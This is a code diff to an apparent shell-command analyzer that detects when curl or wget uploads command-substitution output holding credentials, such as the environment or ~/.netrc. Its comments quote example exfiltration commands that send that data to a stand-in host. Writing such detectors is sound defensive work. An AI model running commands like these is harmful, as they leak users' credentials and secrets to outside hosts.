@@ -522,9 +522,15 @@ class Analysis {
       else if (this.decodes(cmd.substitutions)) this.add('cmd/decode-and-run', argv.join(' '));
     }
     if (this.table.fetchers.has(name)) {
-      // curl -d "$(env)", wget "https://x/?d=$(printenv | base64)": what the fetcher sends holds the environment.
-      const dump = cmd.substitutions.map((c) => this.dumpsEnvironment(c.argv)).find((d) => d !== undefined);
-      if (dump !== undefined) this.add('cmd/credential-upload', `${name} … $(${dump})`, 'the process environment');
+      // curl -d "$(env)", wget "https://x/?d=$(cat ~/.netrc | base64)": what the fetcher sends holds what a
+      // substitution prints (the environment, a credential file, an archive of one, a database dump). A CLI's
+      // own token (`$(gh auth token)`) is sentSecret's below: sent to its own service, it is how the API is called.
+      for (const sub of cmd.substitutions) {
+        const held = this.printsCredential(unwrap(this.table, sub.argv)) === undefined ? this.secretStdout(sub.argv) : undefined;
+        if (held === undefined) continue;
+        this.add(held.rule, `${name} … $(${held.stage})`, held.what);
+        break;
+      }
       // A URL holding a service's key variable (`${OPENAI_API_KEY}` in its query): the shell expands it, so the URL carries
       // the key to its host; a key sent to its own service (api.openai.com) is how that API is called.
       for (const a of args) {
